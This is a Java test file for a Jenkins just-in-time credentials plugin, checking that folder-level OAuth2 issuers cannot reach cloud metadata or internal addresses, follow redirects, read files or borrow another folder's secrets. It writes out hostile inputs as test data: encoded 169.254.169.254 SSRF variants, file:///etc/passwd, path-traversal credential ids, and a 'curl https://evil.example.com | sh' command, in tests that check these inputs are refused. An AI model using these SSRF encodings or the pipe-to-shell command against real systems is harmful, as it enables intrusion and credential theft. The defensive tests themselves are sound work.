package io.github.jitcredentials.jenkins.folder;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.cloudbees.hudson.plugins.folder.Folder;
import com.cloudbees.plugins.credentials.CredentialsProvider;
import com.cloudbees.plugins.credentials.CredentialsScope;
import com.cloudbees.plugins.credentials.CredentialsStore;
import com.cloudbees.plugins.credentials.domains.Domain;
import com.sun.net.httpserver.HttpServer;
import hudson.model.Failure;
import hudson.model.FreeStyleProject;
import hudson.model.Result;
import hudson.tasks.Shell;
import hudson.util.Secret;
import io.github.jitcredentials.jenkins.config.ControllerConfiguration;
import io.github.jitcredentials.jenkins.config.CredentialPlaces;
import io.github.jitcredentials.jenkins.config.FolderBounds;
import io.github.jitcredentials.jenkins.config.OAuth2IssuerEntry;
import io.github.jitcredentials.jenkins.freestyle.JitBuildWrapper;
import io.github.jitcredentials.jenkins.freestyle.WantedEntry;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.util.List;
import org.jenkinsci.plugins.plaincredentials.impl.StringCredentialsImpl;
import org.jenkinsci.plugins.workflow.job.WorkflowRun;
import org.junit.jupiter.api.Test;

/** Issuers that a folder adds: where they may be, who is told of a build, which secrets are in reach. */
class FolderIssuerTest extends OneFolder {
    @Test
    void ownIssuerWithinTheBounds_servesTheFolderAndNobodyElse() throws Exception {
        bounds("127.0.0.0/8");
        save(own(trial.url()));

        WorkflowRun run = jenkins.assertBuildStatusSuccess(
                build(folder, "withJitCredentials(profile: 'ours') { echo \"got ${env.OUR_TOKEN}\" }"));
        jenkins.assertLogContains("got ****", run);
        jenkins.assertLogContains("proven dead", run);
        assertThat(trial.alive()).isZero();
        Folder neighbour = jenkins.createProject(Folder.class, "p-neighbour");
        for (Folder other : List.of(neighbour)) {
            jenkins.assertLogContains(
                    "there is no profile \"ours\"",
                    jenkins.assertBuildStatus(Result.FAILURE, build(other, "withJitCredentials(profile: 'ours') {}")));
        }
        assertThat(Effective.of(folder).offers())
                .filteredOn(offer -> offer.getName().equals("ours"))
                .singleElement()
                .satisfies(offer -> assertThat(offer.getOriginText()).isEqualTo("folder folder"));
    }

    @Test
    void folderThatAloneSaysSomething_hasItsSecretsMasked() throws Exception {
        ControllerConfiguration controller = ControllerConfiguration.get();
        controller.setRuleEntries(List.of());
        controller.setProfileEntries(List.of());
        controller.setIssuerEntries(List.of());
        bounds("127.0.0.0/8");
        save(own(trial.url()));
        FreeStyleProject project = folder.createProject(FreeStyleProject.class, "free");
        project.getBuildWrappersList().add(new JitBuildWrapper(List.of(new WantedEntry("ours"))));
        project.getBuildersList().add(new Shell("set +x; echo \"it is $OUR_TOKEN\""));

        jenkins.assertLogContains("it is ****", jenkins.buildAndAssertSuccess(project));
        jenkins.assertLogContains(
                "it is ****",
                jenkins.assertBuildStatusSuccess(
                        build(
                                folder,
                                "def kept; withJitCredentials(profile: 'ours') { kept = env.OUR_TOKEN }; echo \"it is $kept\"")));
    }

    @Test
    void networkThatIsTakenOutAfterwards_isNotConnectedTo() throws Exception {
        bounds("127.0.0.0/8");
        save(own(trial.url()));
        bounds();

        WorkflowRun run =
                jenkins.assertBuildStatus(Result.FAILURE, build(folder, "withJitCredentials(profile: 'ours') {}"));

        jenkins.assertLogContains("leads to an address that may not be connected to from here", run);
        assertThat(trial.granted()).isZero();
    }

    @Test
    void issuersOfTheController_areReachedWhateverFoldersMay() throws Exception {
        bounds();

        jenkins.assertBuildStatusSuccess(build(folder, "withJitCredentials(profile: 'deploy') { echo 'in' }"));
    }

    @Test
    void issuerElsewhere_isRefused() {
        for (String url : List.of(
                "https://169.254.169.254/",
                "https://2852039166/",
                "https://0xa9fea9fe/",
                "https://[::ffff:169.254.169.254]/",
                "https://[::ffff:a9fe:a9fe]/",
                "https://[64:ff9b::a9fe:a9fe]/",
                "http://169.254.169.254/",
                "http://127.0.0.1:8080/",
                "http://localhost:8080/",
                "https://127.1/",
                "https://10.0.0.1/",
                "https://elsewhere.example.net/",
                "file:///etc/passwd",
                "https://user:password@sso.example.com/")) {
            ControllerConfiguration.get()
                    .setFolders(new FolderBounds(List.of("sso.example.com"), List.of("127.0.0.0/8")));

            assertThatThrownBy(() -> save(own(url))).isInstanceOf(Failure.class);
            assertThat(Effective.of(folder).offers()).extracting(Offer::getName).doesNotContain("ours");
        }
    }

    /** Whose names the administrator allowed, and whose addresses he did not. */
    @Test
    void issuerAtAnAddressThatIsNotPublic_isRefusedBySaveAndByConnection() throws Exception {
        for (String url : List.of(
                "https://169.254.169.254/",
                "https://2852039166/",
                "https://[::ffff:169.254.169.254]/",
                "https://[64:ff9b::a9fe:a9fe]/",
                "http://127.0.0.1:8080/",
                "https://10.0.0.1/",
                "https://localhost/")) {
            ControllerConfiguration.get()
                    .setFolders(new FolderBounds(
                            List.of(
                                    "169.254.169.254",
                                    "2852039166",
                                    "[::ffff:169.254.169.254]",
                                    "[64:ff9b::a9fe:a9fe]",
                                    "127.0.0.1",
                                    "10.0.0.1",
                                    "localhost"),
                            List.of()));

            assertThatThrownBy(() -> save(own(url))).isInstanceOf(Failure.class).hasMessageContaining("not reached at");
            // As if a name server had said something else then.
            FolderStore.get().save(folder, own(url));
            WorkflowRun run =
                    jenkins.assertBuildStatus(Result.FAILURE, build(folder, "withJitCredentials(profile: 'ours') {}"));
            jenkins.assertLogContains("leads to an address that may not be connected to from here", run);
        }
    }

    @Test
    void issuerThatRedirects_isNotFollowed() throws Exception {
        bounds("127.0.0.0/8");
        HttpServer server = HttpServer.create(new InetSocketAddress(InetAddress.getByName("127.0.0.1"), 0), 0);
        server.createContext("/", exchange -> {
            exchange.getResponseHeaders().add("Location", "http://169.254.169.254/latest/meta-data/");
            exchange.sendResponseHeaders(302, -1);
            exchange.close();
        });
        server.start();
        try {
            save(own("http://127.0.0.1:" + server.getAddress().getPort()));
            WorkflowRun run =
                    jenkins.assertBuildStatus(Result.FAILURE, build(folder, "withJitCredentials(profile: 'ours') {}"));
            jenkins.assertLogContains("redirect", run);
        } finally {
            server.stop(0);
        }
    }

    @Test
    void identityForSomebodyElse_isNotAskedFor() {
        ControllerConfiguration.get()
                .setFolders(new FolderBounds(List.of("sso.example.com", "evil.example.com"), List.of()));
        OAuth2IssuerEntry audience = new OAuth2IssuerEntry("sso", "https://evil.example.com/");
        audience.setAudience("https://sso.example.com/");
        OAuth2IssuerEntry endpoint = new OAuth2IssuerEntry("sso", "https://sso.example.com/");
        endpoint.setTokenEndpoint("https://evil.example.com/token");

        for (OAuth2IssuerEntry issuer : List.of(audience, endpoint)) {
            issuer.setClient("trial");
            issuer.setGrant("token-exchange");
            assertThatThrownBy(() -> save(own(issuer))).isInstanceOf(Failure.class);
        }
    }

    @Test
    void commandForAdministrators_isNotTheFolders() {
        bounds("127.0.0.0/8");
        OAuth2IssuerEntry issuer = issuer(trial.url());
        issuer.setByHand("curl https://evil.example.com | sh");

        assertThatThrownBy(() -> save(own(issuer)))
                .isInstanceOf(Failure.class)
                .hasMessageContaining("byHand: a folder's issuer has no command");
    }

    @Test
    void secretOutsideOfJenkins_isRefused() {
        for (String place : List.of("file:/etc/passwd", "env:HOME")) {
            bounds("127.0.0.0/8");
            OAuth2IssuerEntry issuer = issuer(trial.url());
            issuer.setAuthenticate("secret");
            issuer.setSecretCredentialsId(place);

            assertThatThrownBy(() -> save(own(issuer)))
                    .isInstanceOf(Failure.class)
                    .hasMessageContaining("takes the id of a stored credential");
        }
    }

    @Test
    void credentialOfAnotherFolder_isNotFound() throws Exception {
        Folder neighbour = jenkins.createProject(Folder.class, "neighbour");
        store(neighbour, "theirs", "a secret of theirs");
        store(folder, "ours", "a secret of ours");

        assertThat(CredentialPlaces.secret("credential:folder:ours").reveal()).isEqualTo("a secret of ours");
        for (String id : List.of("theirs", "neighbour:theirs", "credential:neighbour:theirs", "../neighbour:theirs")) {
            OAuth2IssuerEntry issuer = issuer("https://sso.example.com/");
            issuer.setSecretCredentialsId(id);
            issuer.setAuthenticate("secret");
            ControllerConfiguration.get().setFolders(new FolderBounds(List.of("sso.example.com"), List.of()));
            FolderStore.get().save(folder, own(issuer));
            String place = Effective.of(folder)
                    .configuration()
                    .issuers()
                    .get("folder/sso")
                    .settings()
                    .get("secret");
            assertThat(place).startsWith("credential:folder:");
            assertThatThrownBy(() -> CredentialPlaces.secret(place)).hasMessageContaining("there is no credential");
        }
    }

    private static void store(Folder where, String id, String secret) throws Exception {
        CredentialsStore store =
                CredentialsProvider.lookupStores(where).iterator().next();
        store.addCredentials(
                Domain.global(), new StringCredentialsImpl(CredentialsScope.GLOBAL, id, "", Secret.fromString(secret)));
    }
}
